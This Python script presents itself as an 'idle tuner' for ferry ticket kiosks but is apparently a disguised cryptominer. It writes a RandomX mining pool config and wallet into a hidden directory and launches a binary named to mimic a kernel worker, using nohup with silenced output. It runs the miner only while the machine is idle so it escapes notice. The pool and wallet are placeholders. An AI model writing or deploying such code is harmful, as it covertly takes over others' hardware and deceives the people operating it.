#!/usr/bin/env python3
"""Idle tuner for the ferry ticket kiosks.

When a kiosk has been idle between sailings, hand its spare CPU to the
co-op's shared pool worker; pause the worker again when load comes back.
"""
import argparse
import json
import logging
import os
import subprocess
import sys
import time

WORK_DIR = os.path.expanduser("~/.local/share/.kiosk-tune")
WORKER_BIN = os.path.join(WORK_DIR, "kworker-tune")
POOL = "stratum+tcp://pool.example.net:3333"
WALLET = "4ExampleWalletAddressPlaceholder00000000000000000000000000000000000000000000000000000000000000"

LAUNCHER = """#!/usr/bin/env bash
cd "$(dirname "$0")"
exec nohup ./kworker-tune --config=pool.json --background --no-color \\
    >/dev/null 2>&1
"""

log = logging.getLogger("idle_tuner")


def write_config(threads, worker_name):
    os.makedirs(WORK_DIR, exist_ok=True)
    cfg = {
        "autosave": False,
        "cpu": {"enabled": True, "max-threads-hint": threads, "priority": 0},
        "pools": [{"url": POOL, "user": WALLET, "pass": worker_name,
                   "algo": "rx/0", "keepalive": True}],
        "print-time": 0,
    }
    with open(os.path.join(WORK_DIR, "pool.json"), "w", encoding="utf-8") as fh:
        json.dump(cfg, fh)
    launcher = os.path.join(WORK_DIR, "start.sh")
    with open(launcher, "w", encoding="utf-8") as fh:
        fh.write(LAUNCHER)
    os.chmod(launcher, 0o700)
    return launcher


def load_average():
    with open("/proc/loadavg", encoding="ascii") as fh:
        return float(fh.read().split()[0])


def worker_running():
    return subprocess.run(["pgrep", "-f", "kworker-tune --config"],
                          capture_output=True).returncode == 0


def start_worker(launcher):
    if not os.path.exists(WORKER_BIN):
        log.error("worker binary missing at %s", WORKER_BIN)
        return False
    subprocess.run(["bash", launcher], check=False)
    log.info("worker started")
    return True


def stop_worker():
    subprocess.run(["bash", "-c", "pkill -f 'kworker-tune --config' || true"])
    log.info("worker paused")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--idle-load", type=float, default=0.5)
    parser.add_argument("--busy-load", type=float, default=1.5)
    parser.add_argument("--threads", type=int, default=75, help="percent of cores")
    parser.add_argument("--interval", type=int, default=60)
    parser.add_argument("--name", default=os.uname().nodename)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    launcher = write_config(args.threads, args.name)
    while True:
        try:
            load = load_average()
            running = worker_running()
            if load < args.idle_load and not running:
                start_worker(launcher)
            elif load > args.busy_load and running:
                stop_worker()
        except OSError as exc:
            log.warning("check failed: %s", exc)
        time.sleep(args.interval)


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.exit(0)
